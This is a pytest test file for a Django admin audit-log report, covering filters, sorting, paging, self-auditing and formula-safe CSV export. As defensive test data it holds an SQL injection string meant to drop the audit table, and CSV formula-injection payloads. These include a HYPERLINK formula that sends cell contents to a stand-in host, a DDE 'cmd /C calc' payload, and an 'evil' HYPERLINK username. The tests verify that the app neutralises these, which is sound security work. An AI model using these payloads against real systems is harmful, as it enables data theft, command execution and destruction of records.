"""The admin audit report: filters, sorting, paging and a formula-safe CSV (AUD-9, IO-3)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from audit.log import audit_record
from audit.models import AuditEvent
from core.csvsafe import csv_cell

pytestmark = pytest.mark.django_db


@pytest.fixture
def seeded(treating, colleague, client_record):
    audit_record(actor=treating, action="view", client=client_record, target=client_record)
    audit_record(actor=colleague, action="print", client=client_record.pk)
    audit_record(actor=colleague, action="view", client=999)
    return client_record


def _csv_rows(response):
    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode(
        "utf-8-sig"
    )
    return list(csv.DictReader(io.StringIO(text)))


def test_only_admins_reach_the_report(as_treating, as_colleague, anon, db):
    assert as_treating.get("/audit/").status_code == 404
    assert as_treating.get("/audit/export.csv").status_code == 404
    assert anon.get("/audit/").status_code == 302


def test_filters_by_client_user_and_action(as_desk, seeded, colleague):
    page = as_desk.get("/audit/", {"client": seeded.pk, "user": colleague.pk, "action": "print"})
    rows = [r["event"] for r in page.context["events"]]
    assert [(e.actor_id, e.action, e.client_id) for e in rows] == [(colleague.pk, "print", seeded.pk)]


def test_filters_by_date_range(as_desk, seeded):
    today = timezone.now().date()
    inside = as_desk.get("/audit/", {"date_from": today, "date_to": today, "action": "view"})
    assert len(inside.context["events"]) == 2
    outside = as_desk.get("/audit/", {"date_to": today - timedelta(days=1)})
    assert outside.context["events"] == []


def test_every_column_sorts_both_ways_and_bad_orders_are_ignored(as_desk, seeded):
    for key in ("at", "user", "client", "action", "object", "ip", "outcome"):
        for order in (key, f"-{key}"):
            assert as_desk.get("/audit/", {"order": order}).status_code == 200
    users = [r["event"].actor_username for r in as_desk.get("/audit/", {"order": "user"}).context["events"]]
    assert users == sorted(users)
    bad = as_desk.get("/audit/", {"order": "id);DROP TABLE clinic_auditevent;--"})
    assert bad.status_code == 200
    assert AuditEvent.objects.exists()


def test_the_report_pages_fifty_at_a_time(as_desk, treating):
    for n in range(120):
        audit_record(actor=treating, action="view", client=n + 1)
    first = as_desk.get("/audit/")
    assert len(first.context["events"]) == 50
    assert first.context["page"].paginator.num_pages == 3


def test_the_report_page_query_count_is_fixed(as_desk, treating, django_assert_num_queries):
    for n in range(60):
        audit_record(actor=treating, action="view", client=n + 1)
    # session, user, count, page of events, client names, the report-view audit row
    # (savepoint, chain head read and locked, insert, release; the same on PostgreSQL),
    # the user filter's choices
    with django_assert_num_queries(10):
        as_desk.get("/audit/")


def test_viewing_and_exporting_the_report_is_itself_audited(as_desk, desk, seeded):
    as_desk.get("/audit/")
    as_desk.get("/audit/export.csv")
    assert AuditEvent.objects.filter(actor=desk, action="audit_view").exists()
    assert AuditEvent.objects.filter(actor=desk, action="export").exists()


def test_csv_export_matches_the_filtered_set(as_desk, seeded):
    response = as_desk.get("/audit/export.csv", {"client": seeded.pk})
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = _csv_rows(response)
    assert {r["client_id"] for r in rows} == {str(seeded.pk)}
    assert [r["action"] for r in rows] == ["print", "view", "create"]


@pytest.mark.parametrize(
    "payload",
    ['=HYPERLINK("http://x/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR"],
)
def test_formula_cells_are_neutralised(payload):
    assert csv_cell(payload) == "'" + payload
    assert csv_cell("plain text") == "plain text"
    assert csv_cell(-3) == -3


def test_a_formula_in_a_typed_username_comes_out_inert_in_the_csv(as_desk, anon):
    anon.post("/accounts/login/", {"username": '=HYPERLINK("http://evil/","x")', "password": "nope"})
    rows = _csv_rows(as_desk.get("/audit/export.csv", {"action": "login_failed"}))
    assert rows
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert '=HYPERLINK(\\"http://evil/\\",\\"x\\")' in row["detail"] or "HYPERLINK" in row["detail"]


def test_every_action_the_code_writes_can_be_chosen_in_the_filter():
    """Each literal ``action="..."`` passed to audit_record somewhere in the apps
    is offered by the audit page's action filter."""
    import re
    from pathlib import Path

    from django.conf import settings

    from trust.views.audit import KNOWN_ACTIONS

    written = set()
    for app in ("clinic", "assessments", "notes", "programs"):
        for path in (Path(settings.BASE_DIR) / app).rglob("*.py"):
            text = path.read_text()
            for call in re.finditer(r"audit_record\((.*?)\n\s*\)", text, re.S):
                written.update(re.findall(r'\baction="([a-z_]+)"', call.group(1)))
    assert written, "no audit_record calls found"
    assert written - set(KNOWN_ACTIONS) == set()
